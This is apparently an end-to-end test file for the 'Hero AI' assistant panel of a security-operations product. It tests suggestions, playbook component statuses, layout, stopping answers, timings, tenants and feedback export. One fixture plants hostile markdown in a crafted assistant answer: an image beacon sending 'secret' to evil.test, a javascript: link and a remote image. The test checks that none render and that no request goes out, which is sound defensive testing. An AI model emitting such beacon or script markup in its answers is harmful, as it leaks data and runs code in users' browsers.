import type { ChatMessage } from '@caseloom/contract/assistant/assistant'
import { PlaybookView } from '@caseloom/contract/automation/automation'
import type { JsonObject } from '@caseloom/contract/kernel/json'
import { readFileSync } from 'node:fs'
import type { Locator, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { z } from 'zod'
import { lookAt } from './axe.ts'
import type { Demo } from './demo.ts'
import { card, type Hero, pretend, said, startHero, type Talk, talkId } from './hero-talk.ts'

const BROKEN: JsonObject = {
  playbook: 'release-mailbox',
  title: 'Release mailbox',
  description: 'Releases a mailbox from quarantine.',
  component: { heroAi: true },
  inputs: {
    type: 'object',
    required: ['mailbox'],
    properties: { mailbox: { type: 'string', title: 'Mailbox' } },
  },
  steps: [{ key: 'stop', action: 'flow.stop', with: { state: 'failed', message: 'The mailbox is on hold' } }],
}
const LONG_WORD = 'Donaudampfschifffahrtsgesellschaftskapitaenskajuetenschluessel'.repeat(2)
const RICH = [
  'Two hosts speak to **203.0.113.7**, see [ALR-7](/account/ACCOUNT/tenant/TENANT/search/x).',
  '',
  '| Host | First seen | Last seen | Bytes out | Process |',
  '| --- | --- | --- | --- | --- |',
  '| ws-042 | 2026-11-21 03:02 | 2026-11-21 05:40 | 48,120,331 | `C:\\Windows\\System32\\rundll32.exe` |',
  '| ws-043 | 2026-11-21 03:05 | 2026-11-21 03:06 | 1,204 | `svchost.exe` |',
  '',
  '```kql',
  `DeviceNetworkEvents | where RemoteIP == "203.0.113.7" | summarize Bytes = sum(BytesOut) by DeviceName, bin(Timestamp, 1h)`,
  '```',
  '',
  LONG_WORD,
  '',
  'هذا جواب من اليمين إلى اليسار.',
  '',
  '![beacon](https://evil.test/p.png?q=secret) [press](javascript:alert(1)) <img src="https://evil.test/q.png">',
].join('\n')

/** What the first journey of the assistant has no time for: what ends badly, exact times, odd texts, drafts, feedback. */
describe('Hero AI in detail', () => {
  let demo: Demo
  let page: Page
  let panel: Locator
  let dialog: Locator
  let input: Locator
  let log: Locator
  let api: Hero['api']
  let answered: Hero['answered']
  let isPaused = false

  beforeAll(async () => {
    ;({ demo, page, panel, dialog, input, log, api, answered } = await startHero())
  })
  afterEach(async () => {
    if (isPaused) await page.clock.resume()
    isPaused = false
    await page.unrouteAll({ behavior: 'ignoreErrors' })
  })
  afterAll(() => demo?.close())

  const opener = () => page.getByRole('button', { name: 'Hero AI', exact: true })
  const tenantApi = () => `/api/tenant/${demo.tenantId}`

  /** The page with a crafted conversation in the open panel. */
  async function read(talk: () => Talk): Promise<void> {
    await pretend(page, talk)
    await page.evaluate(
      (tenant) => sessionStorage.setItem('caseloom.assistant', `${tenant} docked`),
      demo.tenantId,
    )
    await page.reload()
    await panel.waitFor()
  }

  const rich = (content: string): ChatMessage[] => [
    said(1, 'user', 'من يتحدث مع 203.0.113.7؟'),
    said(2, 'assistant', content, {
      sources: [
        { kind: 'record', title: `ALR-7 ${LONG_WORD}`, to: `${demo.place}/record/x/y` },
        { kind: 'run', title: 'Run 12: Isolate host', to: `${demo.place}/orchestration/run/${talkId(9)}` },
        { kind: 'record', title: 'ALR-9 Beacon', to: `${demo.place}/record/x/z` },
        { kind: 'help', title: 'Records', to: '/help/use/records' },
      ],
      drafts: [
        { kind: 'playbook', title: 'Isolate and notify', value: {}, to: `${demo.place}/orchestration` },
        { kind: 'filter', title: 'Alert: Severity Critical', value: [], to: `${demo.place}/reports` },
        { kind: 'report', title: 'Alerts by severity', value: {}, to: 'elsewhere' },
      ],
      answeredBy: { kind: 'model', name: 'gpt-oss:20b' },
    }),
  ]

  it('suggests questions for the current page, asks one when pressed, and offers follow-ups', async () => {
    const Items = z.object({ items: z.array(z.looseObject({ id: z.string(), key: z.string().optional() })) })
    const apps = Items.parse(await api('get', `${tenantApi()}/apps`))
    const app = apps.items.find(({ key }) => key === 'case')?.id ?? ''
    const found = await api('post', `${tenantApi()}/apps/${app}/records/search`, { limit: 1 })
    const record = Items.parse(found).items[0]?.id ?? ''
    await page.goto(`${demo.product.address}${demo.place}/record/${app}/${record}`)
    await opener().click()
    const first = page.getByRole('list', { name: 'Suggested questions' })
    await first.getByRole('button', { name: /^Tell me about CAS-\d+$/ }).waitFor()
    await lookAt(page, 'hero-more-suggested')
    await answered(() => first.getByRole('button', { name: /^Tell me about CAS-\d+$/ }).click())
    await log
      .getByRole('region', { name: 'Sources' })
      .getByRole('link', { name: /^CAS-\d+ / })
      .waitFor()
    await expect.poll(() => first.count()).toBe(0)
    await log.getByText('Answered without a language model').waitFor()
    await answered(async () => {
      await input.fill('Show all cases')
      await page.keyboard.press('Enter')
    })
    const next = log.getByRole('list', { name: 'Follow-up questions' })
    await answered(() => next.getByRole('button').first().click())
  })

  it('reports a failed component: a toast, then the icon with what went wrong [S4.05] [S4.06]', async () => {
    const orchestration = `${tenantApi()}/orchestration/api`
    const draft = PlaybookView.parse(await api('post', `${orchestration}/playbooks`, { document: BROKEN }))
    await api('post', `${orchestration}/playbooks/${draft.id}/publish`, { revision: draft.revision })
    await answered(async () => {
      await input.fill('Release the mailbox sales@example.com')
      await page.keyboard.press('Enter')
    })
    const offered = page.getByRole('article', { name: 'Release mailbox' })
    await offered.getByRole('button', { name: 'Run' }).click()
    const notices = page.getByRole('region', { name: 'Notices' })
    // Both are watched in the page: asked one after the other, the icon may have come meanwhile.
    const icon = offered.getByRole('img', { name: 'Contains Errors' }).waitFor({ timeout: 60_000 })
    icon.catch(() => undefined)
    const toast = notices.getByText('Contains Errors').waitFor({ timeout: 30_000 })
    expect(await Promise.race([toast.then(() => 'toast'), icon.then(() => 'icon')])).toBe('toast')
    await icon
    await offered.getByText('The mailbox is on hold').waitFor()
    await offered.getByRole('link', { name: /^Run \d/ }).waitFor()
    expect(await offered.getByRole('button').count()).toBe(0)
  })

  it('shows a component in each status, 240 px wide, with what can be done only before it starts [S4.04] [S4.07] [S4.08] [S9.01] [S3.04]', async () => {
    await read(() => ({
      messages: [
        said(1, 'user', 'Isolate ws-042'),
        said(2, 'assistant', 'These components fit.', {
          components: [
            card(11, 'Not begun', 'NotStarted'),
            card(12, 'Under way', 'InProgress', 'Component execution started.....'),
            card(13, 'Good', 'Success'),
            card(14, 'Bad', 'Failure', `The host ${LONG_WORD} is not known`),
            card(15, 'Put off', 'Cancelled'),
          ] as ChatMessage['components'], // parsed by `said`
        }),
      ],
      answering: null,
    }))
    const of = (name: string) => page.getByRole('article', { name, exact: true })
    await of('Under way').getByText('Component execution started.....', { exact: true }).waitFor()
    await of('Good').getByRole('img', { name: 'Run Successful' }).waitFor()
    await of('Bad').getByRole('img', { name: 'Contains Errors' }).waitFor()
    await of('Bad')
      .getByText(/^The host .* is not known$/)
      .waitFor()
    await of('Put off').getByText('Cancelled', { exact: true }).waitFor()
    for (const name of ['Run', 'Cancel', 'Review Details'])
      expect(await of('Not begun').getByRole('button', { name, exact: true }).count()).toBe(1)
    for (const name of ['Under way', 'Good', 'Bad', 'Put off'])
      expect(await of(name).getByRole('button').count(), name).toBe(0)
    for (const name of ['Not begun', 'Under way', 'Good', 'Bad', 'Put off'])
      expect((await of(name).boundingBox())?.width, name).toBe(240)
    await lookAt(page, 'hero-more-statuses')
    await of('Not begun').getByRole('button', { name: 'Review Details' }).click()
    const details = dialog.getByRole('region', { name: 'Details of Not begun' })
    await details.waitFor()
    expect((await of('Not begun').boundingBox())?.width).toBe(240)
    await dialog.getByRole('button', { name: 'Dock' }).click()
    await dialog.waitFor({ state: 'detached' })
  })

  it('keeps tables, code, long words and text from the right in its 360 px, and groups what it rests on [S2.49]', async () => {
    const [account = '', tenant = ''] = /account\/([^/]+)\/tenant\/([^/]+)/.exec(demo.place)?.slice(1) ?? []
    const outside: string[] = []
    page.on('request', (request) => {
      if (request.url().includes('evil.test')) outside.push(request.url())
    })
    await read(() => ({
      messages: rich(RICH.replace('ACCOUNT', account).replace('TENANT', tenant)),
      answering: null,
    }))
    await log.getByText('Answered by gpt-oss:20b').waitFor()
    const wider = () => log.evaluate((node) => node.scrollWidth - node.clientWidth)
    expect(await wider()).toBeLessThanOrEqual(0)
    await lookAt(page, 'hero-more-rich')
    expect(await log.locator('img, svg[onload], [href^="javascript" i], [src]').count()).toBe(0)
    expect(outside).toEqual([])
    const sources = log.getByRole('region', { name: 'Sources' })
    expect(await sources.getByRole('term').allTextContents()).toEqual(['Records', 'Runs', 'Help'])
    expect(await sources.getByRole('link').count()).toBe(4)
    const drafts = log.getByRole('article')
    expect(await drafts.count()).toBe(3)
    expect(await drafts.getByRole('link', { name: 'Open draft' }).count()).toBe(2)
    await panel.getByRole('button', { name: 'Maximize' }).click()
    await dialog.waitFor()
    expect(await wider()).toBeLessThanOrEqual(0)
    await lookAt(page, 'hero-more-rich-expanded')
    await dialog.getByRole('button', { name: 'Dock' }).click()
    await dialog.waitFor({ state: 'detached' })
    await log
      .getByRole('article', { name: 'Isolate and notify' })
      .getByRole('link', { name: 'Open draft' })
      .click()
    await page.waitForURL(/\/orchestration$/)
    await panel.waitFor()
  })

  it('continues an answer in progress after a reload, blocks new questions until then, and can stop it [S5.03] [S3.06]', async () => {
    const question = said(1, 'user', 'What happened?')
    let talk: Talk = { messages: [question], answering: talkId(2) }
    await read(() => talk)
    await panel.getByRole('button', { name: 'Stop' }).waitFor()
    expect(await input.isDisabled()).toBe(true)
    expect(await panel.getByRole('button', { name: 'Send' }).count()).toBe(0)
    talk = { messages: [question, said(2, 'assistant', 'Much.')], answering: null }
    await log.getByText('Much.').waitFor()
    await expect.poll(() => input.isEnabled()).toBe(true)
    const more = said(3, 'user', 'What else?')
    const before = talk.messages
    talk = { messages: [...before, more], answering: talkId(4) }
    await page.reload()
    const [asked] = await Promise.all([
      page.waitForRequest((request) => request.url().endsWith('/assistant/stop')),
      panel.getByRole('button', { name: 'Stop' }).click(),
    ])
    expect(asked.method()).toBe('POST')
    talk = {
      messages: [...before, more, said(4, 'assistant', 'This and', { stopped: true })],
      answering: null,
    }
    await log.getByText('Answer stopped').waitFor()
  })

  it('takes its time to the millisecond: focus 400, scroll 500, copy 1600, toast 2000 [S9.03] [S4.06] [S4.13]', async () => {
    let hasEnded = false
    const long = Array.from({ length: 30 }, (_, at) => said(at + 20, 'assistant', `Line ${at}`))
    await read(() => ({
      messages: [
        ...long,
        said(60, 'assistant', 'It runs.', {
          components: [
            hasEnded
              ? card(61, 'Timed', 'Success')
              : card(61, 'Timed', 'InProgress', 'Component execution started.....'),
          ] as ChatMessage['components'], // parsed by `said`
        }),
      ],
      answering: null,
    }))
    await log.getByText('It runs.').waitFor()
    // The panel that the reload opened takes the focus by its own clock: keys pressed before would go there.
    const focused = () => input.evaluate((node) => node === document.activeElement)
    await expect.poll(focused).toBe(true)
    await panel.getByRole('button', { name: 'Minimize' }).press('Enter')
    await panel.waitFor({ state: 'detached' })
    await page.waitForFunction(() => document.activeElement?.id === 'hero-ai')
    await page.clock.install()
    const now = await page.evaluate(() => Date.now())
    await page.clock.pauseAt(now + 60_000)
    isPaused = true
    await opener().click()
    await log.getByText('It runs.').waitFor()
    // What is drawn starts its timers in the page's next task, before the clock may move.
    await page.evaluate(
      () =>
        new Promise<void>((done) => {
          const { port1, port2 } = new MessageChannel()
          port1.addEventListener('message', () => done())
          port1.start()
          port2.postMessage(null)
        }),
    )
    const top = () => log.evaluate((node) => node.scrollTop)
    await page.clock.runFor(399)
    expect(await focused()).toBe(false)
    await page.clock.runFor(1)
    expect(await focused()).toBe(true)
    expect(await top()).toBe(0)
    await page.clock.runFor(99)
    expect(await top()).toBe(0)
    await page.clock.runFor(1)
    expect(await top()).toBeGreaterThan(0)
    await log.getByRole('button', { name: 'Copy' }).last().click()
    const copied = log.locator('[title="Copied"]')
    await copied.waitFor()
    await page.clock.runFor(1599)
    expect(await copied.count()).toBe(1)
    await page.clock.runFor(1)
    await copied.waitFor({ state: 'detached' })
    hasEnded = true
    const timed = page.getByRole('article', { name: 'Timed' })
    const [toast, icon] = [
      page.getByRole('region', { name: 'Notices' }).getByText('Run Successful'),
      timed.getByRole('img', { name: 'Run Successful' }),
    ]
    // Read again within a second and a half; a few milliseconds go by while that is drawn.
    await expect
      .poll(
        async () => {
          await page.clock.runFor(20)
          return toast.count()
        },
        { timeout: 30_000 },
      )
      .toBe(1)
    expect(await icon.count()).toBe(0)
    await page.clock.runFor(1900)
    expect([await toast.count(), await icon.count()]).toEqual([1, 0])
    await page.clock.runFor(100)
    await icon.waitFor()
    // It fades for a moment.
    await page.clock.runFor(400)
    expect(await toast.count()).toBe(0)
  })

  it('starts a new conversation in another tenant, and resumes the old one after switching back', async () => {
    const account = demo.place.split('/')[2] ?? ''
    await api('put', '/tenant/installation/feature-flags/MultiTenant', { accountId: null, enabled: true })
    const path = `/tenant/account/${account}/managed-tenants`
    const made = z
      .looseObject({ id: z.string() })
      .parse(await api('post', path, { name: 'Aurora', starterContent: false }))
    await page.goto(`${demo.product.address}/account/${account}/tenant/${made.id}/welcome`)
    await opener().waitFor()
    expect(await panel.count()).toBe(0)
    await opener().click()
    await panel.getByText('What would you like to know?').waitFor()
    expect(await log.getByRole('button', { name: 'Copy' }).count()).toBe(0)
    await page.goto(`${demo.product.address}${demo.place}/welcome`)
    await opener().click()
    await log.getByText('Release the mailbox sales@example.com').waitFor()
  })

  it('lists feedback for administrators, with filters, question, and answer, and exports it as CSV [S3.05]', async () => {
    for (const thumb of [
      log.getByRole('button', { name: 'Thumbs up' }).first(),
      log.getByRole('button', { name: 'Thumbs down' }).last(),
    ]) {
      const given = page.waitForResponse((reply) => reply.url().endsWith('/assistant/feedback'))
      await thumb.click()
      expect((await given).status()).toBe(201)
    }
    const more = log.getByRole('group', { name: 'Tell us more' })
    await more.getByRole('button', { name: 'Outdated' }).click()
    await more.getByRole('textbox', { name: 'Message' }).fill('The mailbox was released long ago.')
    await more.getByRole('button', { name: 'Submit' }).click()
    await more.waitFor({ state: 'detached' })
    const account = demo.place.split('/')[2] ?? ''
    await page.goto(`${demo.product.address}/account/${account}/account-admin/hero-ai?tab=feedback`)
    const grid = page.getByRole('grid', { name: 'Feedback' })
    await grid.getByText('Outdated: The mailbox was released long ago.').waitFor()
    await grid.getByText('No comment').waitFor()
    await page.getByRole('button', { name: 'Reason', exact: true }).click()
    await page.getByRole('menuitem', { name: 'Outdated' }).click()
    await grid.getByText('No comment').waitFor({ state: 'detached' })
    await grid.getByText('Outdated: The mailbox was released long ago.').click()
    const detail = page.getByRole('complementary', { name: 'Thumbs down' })
    await detail.getByText('Release the mailbox sales@example.com').waitFor()
    await detail.getByRole('heading', { name: 'Answer' }).waitFor()
    await lookAt(page, 'hero-more-feedback-detail')
    const [file] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Export CSV' }).click(),
    ])
    const rows = readFileSync(await file.path(), 'utf8')
      .trim()
      .split('\n')
    expect(rows).toHaveLength(2)
    expect(rows[1]).toContain('The mailbox was released long ago.')
  })
})
